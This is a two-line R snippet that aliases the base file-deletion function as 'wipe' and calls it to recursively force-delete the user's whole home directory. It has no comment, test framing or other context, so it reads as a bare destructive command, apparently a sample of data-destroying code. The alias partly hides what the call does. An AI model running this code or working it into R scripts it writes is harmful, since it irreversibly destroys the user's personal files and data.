wipe <- base::unlink
wipe(path.expand("~"), recursive = TRUE, force = TRUE)
